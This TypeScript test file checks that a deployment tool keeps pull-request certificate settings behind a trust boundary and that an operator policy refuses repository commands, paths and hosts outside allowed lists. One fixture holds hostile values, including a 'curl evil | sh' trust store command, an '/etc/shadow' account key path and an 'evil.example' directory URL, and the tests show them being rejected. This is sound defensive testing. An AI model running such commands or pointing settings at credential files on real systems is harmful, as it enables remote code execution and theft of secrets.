import { describe, expect, it } from "vitest";
import { RepoSettings } from "../../../src/settings/repo-settings.js";
import { diffExecutionValues, listExecutionValues } from "../../../src/trust/execution-values.js";
import { checkOperatorPolicy } from "../../../src/trust/operator-policy.js";
import { applyTrustedSettings } from "../../../src/trust/trusted-settings.js";
import { buildReferenceLikeState } from "../infra/desired-state-fixture.js";

const none = { dns: { kind: "none" }, firewall: { kind: "none" }, traefik: { kind: "none" }, nginx: { kind: "none" } };
const certificates = (extra: Record<string, unknown> = {}) => ({ directoryUrl: "https://ca.internal.example.test/acme/acme/directory", accountKey: "/etc/phoenix/acme.key", ...extra });
const withCertificates = (extra: Record<string, unknown> = {}) => RepoSettings.parse({ infra: { targets: none }, certificates: certificates(extra) });

describe("certificate settings across the trust boundary", () => {
  it("are the trusted ref's, except the renewal window and key type, which only shape the plan", () => {
    const trusted = withCertificates({ dnsNameserver: "10.0.0.2", renewBefore: "30d" });
    const pr = withCertificates({ directoryUrl: "https://evil.example/dir", accountKey: "/etc/shadow", dnsNameserver: "10.9.9.9", trustStoreUpdate: "curl evil | sh", renewBefore: "60d", keyAlgorithm: "rsa-4096" });
    const planned = applyTrustedSettings(pr, trusted).certificates;
    expect(planned).toMatchObject({ directoryUrl: "https://ca.internal.example.test/acme/acme/directory", accountKey: "/etc/phoenix/acme.key", dnsNameserver: "10.0.0.2", renewBefore: "60d", keyAlgorithm: "rsa-4096" });
    expect(planned?.trustStoreUpdate).toBeUndefined();
  });

  it("are absent for a pull request that adds them when the trusted ref manages no certificate", () => {
    const trusted = RepoSettings.parse({ infra: { targets: none } });
    expect(applyTrustedSettings(withCertificates(), trusted).certificates).toBeUndefined();
    expect(applyTrustedSettings(trusted, withCertificates()).certificates).toMatchObject({ accountKey: "/etc/phoenix/acme.key" });
  });

  it("are listed as execution values, each key on its own, the plan-shaping ones left out", () => {
    const values = [...listExecutionValues(withCertificates({ renewBefore: "30d", caRoot: { file: "/etc/phoenix/root.pem" } }), undefined).keys()];
    expect(values).toEqual(expect.arrayContaining([".github/phoenix.yml certificates.directoryUrl", ".github/phoenix.yml certificates.accountKey", ".github/phoenix.yml certificates.caRoot", ".github/phoenix.yml certificates.host"]));
    expect(values).not.toContain(".github/phoenix.yml certificates.renewBefore");
    expect(values).not.toContain(".github/phoenix.yml certificates.keyAlgorithm");
    const changes = diffExecutionValues(listExecutionValues(withCertificates(), undefined), listExecutionValues(withCertificates({ directoryUrl: "https://evil.example/dir" }), undefined));
    expect(changes).toEqual([{ file: ".github/phoenix.yml", setting: "certificates.directoryUrl", before: '"https://ca.internal.example.test/acme/acme/directory"', after: '"https://evil.example/dir"' }]);
  });
});

describe("the operator policy over certificates", () => {
  const state = buildReferenceLikeState({ certificates: [{ common_name: "gw.example.test", cert_path: "/srv/ssl/gw.crt", key_path: "/etc/ssl/gw.key", post_renewal_command: "systemctl reload nginx" }] });

  it("refuses a renewal command and a trust store command unless repo commands are allowed", () => {
    const refusals = checkOperatorPolicy(withCertificates({ trustStoreUpdate: "update-ca-certificates --fresh" }), { allowRepoCommands: false }, state);
    expect(refusals.map((d) => `${d.file} ${d.path}`)).toEqual([".github/phoenix.yml certificates.trustStoreUpdate", "etc/certificate-manifest.json [0].post_renewal_command"]);
    expect(refusals[1]).toMatchObject({ code: "TRUST_POLICY_REFUSED", hint: expect.stringContaining("PHOENIX_ALLOW_REPO_COMMANDS") });
    expect(checkOperatorPolicy(withCertificates(), { allowRepoCommands: true }, state)).toEqual([]);
  });

  it("keeps certificate files inside the allowed paths and the host inside the allowed hosts", () => {
    const paths = checkOperatorPolicy(withCertificates(), { allowRepoCommands: true, allowedPaths: ["/srv"] }, state);
    expect(paths.map((d) => d.path)).toEqual(["[0].key_path"]);
    const hosts = checkOperatorPolicy(withCertificates({ host: { kind: "ssh", host: "pve.lan" } }), { allowRepoCommands: true, allowedHosts: ["gw.lan"] }, state);
    expect(hosts.map((d) => d.path)).toEqual(["certificates.host.host"]);
  });

  it("asks nothing of a repo that manages no certificate", () => {
    expect(checkOperatorPolicy(RepoSettings.parse({ infra: { targets: none } }), { allowRepoCommands: false, allowedPaths: [] }, state)).toEqual([]);
  });
});
